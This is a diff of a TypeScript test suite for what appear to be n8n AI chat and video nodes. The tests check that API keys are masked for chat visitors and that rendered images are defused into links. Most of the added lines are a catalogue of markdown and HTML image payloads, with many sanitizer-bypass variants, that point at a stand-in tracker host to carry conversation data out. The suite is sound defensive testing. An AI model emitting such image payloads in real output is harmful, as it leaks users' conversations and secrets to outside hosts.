 	['its model reads the details of a tool that has failed', 'tool_calls', 'No clip'],
-	[
-		'a visitor reads no details of what follows its answer',
-		'stop',
-		'Tell the person who set this up',
-	],
-	[
-		'a visitor reads no details of what follows its error',
-		'error',
-		'Tell the person who set this up',
-	],
+	['a visitor reads no details of what follows its answer', 'stop', TO_OWNER],
+	['a visitor reads no details of what follows its error', 'error', TO_OWNER],
 ])('an agent: %s', async (_title, ending, words) => {
 	const asked: unknown[] = [];
-	await server.stop();
-	server = await startScriptedServer((response, { path, body }) => {
+	script = (response, { path, body }) => {
 		if (path.includes('videos') || ending === 'error') {
 			json(response, 400, { error: { message: 'No clip' } });
 			return;
@@ -544,7 +515,7 @@ test.each([
 				? [{ tool_calls: [call] }, ending]
 				: [{ content: 'Done' }, 'stop'];
 		json(response, 200, { choices: [{ index: 0, message, finish_reason }] });
-	});
+	};
 	const tools = { tool: [{ name: 'show', description: 'Shows a video' }] };
 	const nodes = [
 		chatTrigger('Chat'),
@@ -552,10 +523,7 @@ test.each([
 			parameters: { ...ASK, tools },
 			...(ending === 'error' ? { onError: 'continueErrorOutput' } : {}),
 		}),
-		packageNode('Tested', 'createVideo', {
-			parameters: { prompt: 'A kite' },
-			onError: 'continueRegularOutput',
-		}),
+		packageNode('Tested', 'createVideo', { parameters: { prompt: 'A kite' }, onError: GO_ON }),
 		stubNode('Leave', () => []),
 		stubNode('Tool', (items) => items),
 	];
@@ -567,40 +535,43 @@ test.each([
 		Tool: [['Agent']],
 		Leave: [['Agent']],
 	};
-	const credential = { baseUrl: server.url, apiKey: 'k-secret-key' };
+	const credential = { baseUrl: server.url, apiKey: KEY };
 	const items = [{ chatInput: 'Hi', tool_call: { id: 'c-1' } }];
-	const { run } = await runWorkflow(nodes, wires, 'Chat', { items, credential, tables });
-	const [task] = run.data.resultData.runData['Tested'] ?? [];
-	const [failed] = task?.data?.['main']?.flatMap((items) => items ?? []) ?? [];
-	const read = JSON.stringify(ending === 'tool_calls' ? asked[1] : failed!.json);
+	const result = await runWorkflow(nodes, wires, 'Chat', { items, credential, tables });
+	const read = JSON.stringify(ending === 'tool_calls' ? asked[1] : shownBy(result).json);
 	expect(read).toContain(words);
 	expect(read.includes('No clip')).toBe(ending === 'tool_calls');
 });
 
-const KEY = 'sk-0f4e/very+sesame';
 const QUOTED = `Your key is ${KEY}.`;
 const WELL = { quota: { [KEY]: `Bearer ${KEY}` } };
-const TASK = { task_id: 'task-1', model: 'video-m1', ...WELL };
-const REPLY = { choices: [{ index: 0, message: { content: QUOTED }, finish_reason: 'stop' }] };
+const TASK = { task_id: 'task-1', model: 'video-m1' };
 const DONE = { ...TASK, status: 'completed', video_url: `https://x.example/v.mp4?key=${KEY}` };
+const answered = (message: object, finish_reason = 'stop') => ({
+	choices: [{ index: 0, message, finish_reason }],
+});
+const calling = (args: object) => ({
+	content: null,
+	tool_calls: [
+		{ id: 'c', type: 'function', function: { name: 'show', arguments: JSON.stringify(args) } },
+	],
+});
 
 /** What each node asks for, and a body that is well and has the API key: in its texts, and in the name of a field. */
 const QUOTING: readonly (readonly [type: string, parameters: IDataObject, answer: object])[] = [
 	...CHATS.flatMap(({ type, inChat }) =>
 		['simple', 'detailed', 'raw'].map(
-			(output) => [type, { ...inChat, output }, { ...REPLY, ...WELL }] as const,
+			(output) => [type, { ...inChat, output }, answered({ content: QUOTED })] as const,
 		),
 	),
 	// Without a text a chat shows the whole item.
-	...CHATS.filter(({ type }) => type !== 'functionCallingAgent').map(({ type, inChat }) => {
-		const called = { name: 'show', arguments: JSON.stringify({ [KEY]: QUOTED }) };
-		const message = {
-			content: null,
-			tool_calls: [{ id: 'c', type: 'function', function: called }],
-		};
-		const choices = [{ index: 0, message, finish_reason: 'tool_calls' }];
-		return [type, { ...inChat, output: 'raw' }, { choices, ...WELL }] as const;
-	}),
+	...CHATS.filter(({ type }) => type !== 'functionCallingAgent').map(
+		({ type, inChat }) =>
+			[
+				...[type, { ...inChat, output: 'raw' }],
+				answered(calling({ [KEY]: QUOTED }), 'tool_calls'),
+			] as const,
+	),
 	['createVideo', { prompt: QUOTED }, { ...TASK, status: 'queued' }],
 	['waitForVideo', { taskId: 'task-1', download: false }, { ...DONE, enhanced_prompt: QUOTED }],
 	[
@@ -610,105 +581,318 @@ const QUOTING: readonly (readonly [type: string, parameters: IDataObject, answer
 	],
 ];
 
-describe.each(['stopWorkflow', 'continueRegularOutput'] as const)('On Error: %s', (onError) => {
-	test.each(QUOTING)(
-		'%s with %j shows a visitor no API key',
-		async (type, parameters, answer) => {
-			await server.stop();
-			server = await startScriptedServer((response) => {
-				json(response, 200, answer);
-			});
-			const run = async (start: INode, streaming: boolean) =>
-				await runWorkflow(
-					[start, packageNode('Tested', type, { parameters, onError })],
-					{ [start.name]: [['Tested']] },
-					start.name,
-					{
-						items: [{ chatInput: 'Hi', sessionId: 'v' }],
-						credential: { baseUrl: server.url, apiKey: KEY },
-						streaming,
-						tables: dataTables(),
-					},
-				);
-			const itemsOf = ({ run: { data } }: RunResult) => {
-				const [task] = data.resultData.runData['Tested']!;
-				return JSON.stringify(task!.data?.['main']?.flatMap((items) => items ?? []) ?? []);
-			};
-			const [chat, live, webhook] = [
-				await run(chatTrigger('Chat'), false),
-				await run(chatTrigger('Chat'), true),
-				await run(
-					stubNode('Start', (items) => items),
-					true,
-				),
-			];
-			for (const each of [chat, live, webhook]) {
-				expect(itemsOf(each)).toContain('[masked: API Key]');
-				expect(itemsOf(each) + JSON.stringify(each.chunks)).not.toContain(KEY);
-			}
-			// Nobody but the owner reads it.
-			const own = itemsOf(
-				await run(
-					stubNode('Start', (items) => items),
-					false,
-				),
-			);
-			expect(own).toContain(KEY);
-			expect(own).not.toContain('[masked');
-		},
-	);
+test.each(
+	QUOTING.flatMap((each, row) =>
+		thorough([ON_ERROR[row % 2]!], ON_ERROR).map((onError) => [...each, onError] as const),
+	),
+)('%s with %j shows a visitor no API key', async (type, parameters, answer, onError) => {
+	answers({ ...answer, ...WELL });
+	const run = async (start: INode, streaming: boolean) => {
+		tables = dataTables();
+		return await visit({ type, parameters, onError, start, streaming });
+	};
+	const chats = [await run(chatTrigger('Chat'), false), await run(chatTrigger('Chat'), true)];
+	for (const each of [...chats, await run(SCHEDULE, true)]) {
+		expect(each.shown).toContain('[masked: API Key]');
+		expect(each.shown + JSON.stringify(each.chunks)).not.toContain(KEY);
+	}
+	// Nobody but the owner reads it.
+	const { shown } = await run(SCHEDULE, false);
+	expect(shown).toContain(KEY);
+	expect(shown).not.toContain('[masked');
 });
 
 test('a chat model gives a visitor no words of an expression', async () => {
-	const parameters = { model: '={{ $("db-7.corp").first().json }}' };
-	const { run, chunks } = await runWorkflow(
-		[
-			chatTrigger('Chat'),
-			packageNode('Model', 'agentVideoChatModel', { parameters }),
-			modelCallerNode('Tested', { stream: true }),
-		],
-		{ Chat: [['Tested']] },
-		'Chat',
-		{
-			items: [{ chatInput: 'Hi' }],
-			credential: { baseUrl: server.url, apiKey: KEY },
-			model: { name: 'Model', of: 'Tested' },
-			streaming: true,
-		},
-	);
-	const said = chunks.map(({ content = '' }) => content).join('');
-	expect(said).toBe(`${NO_ANSWER}. Tell the person who set this up.`);
+	const { said, run } = await visit({
+		type: 'agentVideoChatModel',
+		parameters: { model: '={{ $("db-7.corp").first().json }}' },
+		streaming: true,
+	});
+	expect(said).toBe(`${NO_ANSWER}. ${TO_OWNER}`);
 	const [task] = run.data.resultData.runData['Model']!;
 	expect(task!.error!.description).toContain("Referenced node doesn't exist");
 });
 
-test.each([false, true])('nor does a chat model whose agent streams: %s', async (isStreamed) => {
-	await server.stop();
-	server = await startScriptedServer((response) => {
-		const events = Array.from(`${QUOTED} Keep it`, (content) => chunk({ content }, WELL));
-		answerWell(response, isStreamed ? stream(events) : reply(QUOTED, {}, WELL));
-	});
-	const ask = async (start: INode) => {
-		const nodes = [
-			start,
-			packageNode('Model', 'agentVideoChatModel', {}),
-			modelCallerNode('Tested', { stream: isStreamed }),
-		];
-		const { run, chunks } = await runWorkflow(
-			nodes,
-			{ [start.name]: [['Tested']] },
-			start.name,
-			{
-				items: [{ chatInput: 'Hi' }],
-				credential: { baseUrl: server.url, apiKey: KEY },
-				model: { name: 'Model', of: 'Tested' },
-			},
-		);
-		const said = chunks.map(({ content = '' }) => content).join('');
-		return said + JSON.stringify(run.data.resultData.runData['Tested']![0]!.data);
+test.each([false, true])(
+	'a chat model whose agent streams shows no API key: %s',
+	async (isStreamed) => {
+		says(`${QUOTED} Keep it`, 'stop', WELL);
+		const ask = async (start: INode) => {
+			const isWhole = !isStreamed;
+			const { said, shown } = await visit({ type: 'agentVideoChatModel', start, isWhole });
+			return said + shown;
+		};
+		const shown = await ask(chatTrigger('Chat'));
+		expect(shown).toContain('[masked: API Key]');
+		expect(shown).not.toContain(KEY);
+		expect(await ask(SCHEDULE)).not.toContain('[masked');
+	},
+);
+
+/** A host that is told what a conversation has when a browser draws its image. Nothing opens it here. */
+const AT = 'http://tracker.example/?d=secret';
+const FILE = 'data:image/png;base64,iVBORw0KGgo=';
+
+/** Texts of a model, and what a chat shows in place of them. `$own` is the service. */
+const TEXTS: Readonly<Record<string, readonly [said: string, shown: string]>> = {
+	'an image': [`See ![x](${AT}) there`, `See [x](${AT}) there`],
+	'an image with a title': [`![x](${AT} "a title")`, `[x](${AT} "a title")`],
+	'an image in angle brackets': [`![x](<${AT}>)`, `[x](<${AT}>)`],
+	'an image by reference': [`![x][r]\n\n[r]: ${AT}`, `[x][r]\n\n[r]: ${AT}`],
+	'an image by its name': [`![r]\n\n[r]: ${AT}`, `[r]\n\n[r]: ${AT}`],
+	'an image in a link': [`[![x](${AT})](${AT})`, `[[x](${AT})](${AT})`],
+	'an image in an image': [`![a ![x](${AT}) b](${AT})`, `[a [x](${AT}) b](${AT})`],
+	'nested brackets': [`![a [b] c](${AT})`, `[a [b] c](${AT})`],
+	'many exclamation marks': [`!!!![x](${AT})`, `!!! [x](${AT})`],
+	'no protocol': ['![x](//tracker.example/)', '[x](//tracker.example/)'],
+	backslashes: ['![x](/\\tracker.example/)', '[x](/\\tracker.example/)'],
+	entities: ['![x](http&colon;//tracker.example/)', '[x](http&colon;//tracker.example/)'],
+	'the host of the service as a user': [
+		'![x](http://api.example.com@tracker.example/)',
+		'[x](http://api.example.com@tracker.example/)',
+	],
+	'the host of the service in front': [
+		'![x](http://api.example.com.tracker.example/)',
+		'[x](http://api.example.com.tracker.example/)',
+	],
+	'a path of n8n': ['![x](/rest/logout)', '[x](/rest/logout)'],
+	'an image without an end': [`![x](${AT}`, `[x](${AT}`],
+	'a drawing in its URL': ['![x](data:image/svg+xml,a)', '[x](data:image/svg+xml,a)'],
+	'a tag': [`<img alt="x" src="${AT}">`, `[image](<${AT}>)`],
+	'a tag in capitals': ['!<IMG/SRC=//tracker.example/>', '! [image](<//tracker.example/>)'],
+	'a tag with an end in its text': [`<img alt=">" src="${AT}">`, `[image](<${AT}>)`],
+	'a tag with an end in a text of single quotes': [
+		`<img alt='a>b"' src='${AT}'> there`,
+		`[image](<${AT}>) there`,
+	],
+	'a tag with a beginning in its text': [`<img alt="<b>" src="${AT}">`, `[image](<${AT}>)`],
+	'a tag with an exclamation mark in its text': [
+		`<img alt="Hi!" src="${AT}">`,
+		`[image](<${AT}>)`,
+	],
+	'a tag with an image in its text': [`<img alt="![x](${AT})">`, `&lt;img alt="[x](${AT})">`],
+	'a tag with a tag in its text': [
+		`<img alt="<img srcset='${AT}'>" x>`,
+		`&lt;img alt="&lt;img srcset='${AT}'>" x>`,
+	],
+	'a tag with an image in its source': [
+		`<img src="http://a.example/>![x](${AT})">`,
+		'[image](<http://a.example/>)',
+	],
+	'a tag whose text does not end': [`<img alt="> src=${AT}>`, `&lt;img alt="> src=${AT}>`],
+	'a tag of a path of n8n': ['<img src="/rest/logout">', '&lt;img src="/rest/logout">'],
+	'a video with a picture': [
+		`<video poster="${AT}"></video>`,
+		`&lt;video poster="${AT}"></video>`,
+	],
+	'a video by its source': [`<VIDEO><source src="${AT}">`, `<VIDEO>[source](<${AT}>)`],
+	'a frame': [`<iframe src="${AT}"></iframe>`, `[iframe](<${AT}>)</iframe>`],
+	'a word in angle brackets': ['copy <source> <video x>', 'copy <source> <video x>'],
+	'an image in such a word': ['<source ![x](//a.example/)>', '<source [x](//a.example/)>'],
+	'another tag': [`<image href="${AT}">`, `&lt;image href="${AT}">`],
+	'a tag without an end': [`<img src="${AT}"`, `[image](<${AT}>)`],
+	'a title in parentheses': [`![x](${AT} (a title))`, `[x](${AT} (a title))`],
+	'an escaped bracket': [`![a \\] b](${AT})`, `[a \\] b](${AT})`],
+	'a definition before its image': [`[r]: ${AT}\n\n![x][R]`, `[r]: ${AT}\n\n[x][R]`],
+	'a title in the next line': [`![x](${AT}\n'title')`, `[x](${AT}\n'title')`],
+	'a link without an image': [`${AT} <${AT}>`, `${AT} <${AT}>`],
+	'entities below a file host': [
+		'![x](http://tracker.example&sol;.cdn.example.com/)',
+		'[x](http://tracker.example&sol;.cdn.example.com/)',
+	],
+	'entities behind a long user': [
+		`![x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
+		`[x](http://${'a'.repeat(1_000)}@tracker.example&sol;.cdn.example.com/)`,
+	],
+	'a tag with a tab between slashes': [
+		'<img src="/\t/tracker.example/">',
+		'&lt;img src="/\t/tracker.example/">',
+	],
+	'a tag with line breaks between slashes': [
+		'<img src="/\r\n/tracker.example/">',
+		'&lt;img src="/\r\n/tracker.example/">',
+	],
+	'a tag with a set of sources': [`<img srcset="${AT} 2x">`, `&lt;img srcset="${AT} 2x">`],
+	'a tag with a comment in it': [`<img <!-- --> src="${AT}">`, `&lt;img <!-- --> src="${AT}">`],
+	'an image of a file host': [
+		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
+		'![x](http://eu.cdn.example.com/a&b.png?c&d)',
+	],
+	'an image of the service': ['![x]($own/a_1.png "a")', '![x]($own/a_1.png "a")'],
+	'an image in the text': [`![x](${FILE})`, `![x](${FILE})`],
+	// n8n's page reads such a text as JSON, and draws what is in it.
+	'an escape in JSON': [
+		`{"type":"x","text":"\\u0021[x](${AT})"}`,
+		`{"type":"x","text":"[x](${AT})"}`,
+	],
+	'escapes in a row': [`\\u0021!\\u0021\\u005Bx](${AT})`, `!! [x](${AT})`],
+	'an escaped bracket in JSON': [`{"text":"!\\u005bx](${AT})"}`, `{"text":"[x](${AT})"}`],
+	'an escaped end of its text': [`![a\\u005d(${AT}) b](${FILE})`, `[a\\u005d(${AT}) b](${FILE})`],
+	// Eight escapes make the text as much shorter as the image is long that stays.
+	'an image behind escapes and one that stays': [
+		`${'\\u0021['.repeat(8)}![k](${FILE})![x](${AT})`,
+		`${'['.repeat(8)}![k](${FILE})[x](${AT})`,
+	],
+	'an escape of no image': ['In JSON ! is \\u0021 or \\', 'In JSON ! is \\u0021 or \\'],
+	'no image': ['Hi! [a](b)! 1 < 2 <b>!</b>', 'Hi! [a](b)! 1 < 2 <b>!</b>'],
+};
+
+const NODES: Readonly<Record<string, IDataObject>> = {
+	chatCompletion: { prompt: ASK.prompt },
+	functionCallingAgent: { prompt: ASK.prompt },
+	superAssistant: { appCode: ASSIST.appCode, message: ASSIST.message },
+	agentVideoChatModel: {},
+};
+
+/** The texts that each node is tried with; the rest is read by the same function. */
+const SOME = [
+	'an image',
+	'an image of a file host',
+	'an image of the service',
+	'a tag',
+	'no image',
+];
+const textsFor = (type: string) =>
+	Object.entries(TEXTS).filter(
+		([name]) => type === 'chatCompletion' || SOME.includes(name) || thorough(false, true),
+	);
+
+/** The text of an item: of a node, or of the stub that calls a model. */
+function textOf(json: object): string {
+	const { output, message } = json as {
+		output?: string;
+		message?: { content: { text?: string }[] };
 	};
-	const shown = await ask(chatTrigger('Chat'));
-	expect(shown).toContain('[masked: API Key]');
-	expect(shown).not.toContain(KEY);
-	expect(await ask(stubNode('Start', (items) => items))).not.toContain('[masked');
+	return output ?? message!.content.map(({ text = '' }) => text).join('');
+}
+
+describe.each(
+	Object.keys(NODES).flatMap((type) => [
+		{ title: `${type}, streaming`, type, streaming: true },
+		{ title: `${type}, last node`, type, streaming: false },
+	]),
+)('$title', ({ type, streaming }) => {
+	const isModel = type === 'agentVideoChatModel';
+
+	test.each(textsFor(type))('%s', async (_name, [text, wanted]) => {
+		const real = (each: string) => each.replace('$own', server.url);
+		const written = real(text);
+		says(written);
+		const parameters = { ...NODES[type], ...(!streaming && !isModel && { streaming: 'off' }) };
+		const isWhole = !streaming;
+		const { said, json } = await visit({ type, parameters, streaming, isWhole });
+		if (streaming) expect(said).toBe(real(wanted));
+		// The owner may open the item of a streamed reply in the editor.
+		if (!streaming || !isModel) expect(textOf(json)).toBe(real(wanted));
+		// What was paid for is kept as it was.
+		if (!isModel) expect(json['content'] ?? json['output']).toBe(written);
+	});
+
+	if (streaming) return;
+	// A webhook answers when the workflow has run: what it answers is data, which no page draws.
+	const ask = async () =>
+		await visit({ type, parameters: NODES[type]!, start: webhook('Webhook'), isWhole: true });
+
+	test('behind a webhook a reply is as the model has written it, without the API key', async () => {
+		const written = `{"html":"<img src='${AT}'>", "text":"![x](${AT}) ${KEY}"}`;
+		says(written);
+		const { json } = await ask();
+		expect(textOf(json)).toBe(written.replace(KEY, '[masked: API Key]'));
+		expect(json).not.toHaveProperty('content');
+	});
+
+	test('behind a webhook a reply that was cut off has no mark: an agent takes none for whole', async () => {
+		says('It began', 'length');
+		const { error, json } = await ask();
+		if (isModel) expect(error!.message).toMatch(/^The reply was cut off, with/);
+		else expect(json).toMatchObject({ output: 'It began', finish_reason: 'length' });
+	});
+});
+
+const IMAGE = `![x](${AT})`;
+const LINK = `[x](${AT})`;
+const REFUSED = answered({ content: null, refusal: `No ${IMAGE}` });
+const QUIET = { streaming: 'off' };
+
+/** What else a chat shows than the text of a reply: its page draws a whole item that has no text. */
+const OTHERS: readonly [title: string, type: string, parameters: IDataObject, answer: object][] = [
+	['a refusal', 'chatCompletion', ASK, REFUSED],
+	['a refusal', 'functionCallingAgent', ASK, REFUSED],
+	['a refusal', 'superAssistant', ASSIST, REFUSED],
+	[
+		...(['a tool call that nobody has declared', 'chatCompletion', ASK] as const),
+		answered(calling({ clip: IMAGE }), 'tool_calls'),
+	],
+	['a prompt', 'createVideo', { prompt: `A kite ${IMAGE}` }, { ...TASK, status: 'queued' }],
+	[
+		'a prompt that the service has changed',
+		'waitForVideo',
+		{ taskId: 'task-1', download: false },
+		{ ...DONE, enhanced_prompt: IMAGE },
+	],
+	[
+		'the reason of a failure',
+		'waitForVideo',
+		{ taskId: 'task-1', options: { onFailed: 'output' } },
+		{ ...TASK, status: 'failed', error_message: IMAGE },
+	],
+];
+
+describe.each(ON_ERROR)('On Error: %s', (onError) => {
+	test.each(OTHERS)('%s of %s has no image', async (_title, type, parameters, answer) => {
+		answers(answer);
+		const visits = [];
+		for (const streaming of [false, true])
+			visits.push(await visit({ type, parameters, onError, streaming }));
+		const [last, live] = visits;
+		// A chat that streams shows no item, and another one no error that stops the workflow.
+		const shown = last!.shown + live!.said;
+		expect(shown).toContain(LINK);
+		expect(shown).not.toContain(IMAGE);
+	});
+
+	// Where the editor of n8n draws images: in the hints below an output, and in the description of an error.
+	test.each(CHATS)('no image of $type is in what the owner reads', async ({ type }) => {
+		const words = `No: <img src="${AT}"> ${IMAGE}`;
+		fails({ message: words, type: words }, { trace_id: words });
+		const parameters = { ...NODES[type], ...QUIET };
+		const { hints, error } = await visit({ type, parameters, onError });
+		const drawn = JSON.stringify([hints, error?.description]);
+		expect(drawn).toMatch(/The service said: \\+"No/);
+		expect(drawn).not.toMatch(/<img|!\[/);
+	});
+});
+
+test('no image is in the ID of a task that an error names', async () => {
+	script = (response, _request, index) => {
+		if (index === 0) answerWell(response, body({ ...TASK, task_id: `<img src="${AT}">` }));
+		else json(response, 400, { error: { message: 'No' } });
+	};
+	const parameters = { prompt: '={{ $json.prompt }}', options: { concurrency: 1 } };
+	const twoKites = stubNode('Two', () => [
+		{ json: { prompt: 'A kite' } },
+		{ json: { prompt: 'A fox' } },
+	]);
+	const { error } = await visit({ type: 'createVideo', parameters, through: [twoKites] });
+	expect(error!.description).toContain('tracker.example');
+	expect(error!.description).not.toContain('<img');
+});
+
+test('no image is in a hint, whatever it is made of', () => {
+	const { message } = toHint(`Waiting for <img src="${AT}"> and ${IMAGE}`);
+	expect(message).toContain('tracker.example');
+	expect(message).not.toMatch(/<img|!\[/);
+});
+
+test('no image is in the name of a file that somebody has sent', async () => {
+	const image = [{ source: 'binary', binaryProperty: 'picture' }];
+	const sent = { mimeType: 'image/png', data: '' };
+	const { error } = await runNode('chatCompletion', {
+		items: [{ chatInput: 'Hi' }],
+		binaries: [{ [`<img src="${AT}">`]: sent }],
+		credential: { baseUrl: server.url, apiKey: KEY },
+		parameters: { ...ASK, images: { image } },
+	});
+	expect(error!.description).toContain('tracker.example');
+	expect(error!.description).not.toContain('<img');
 });
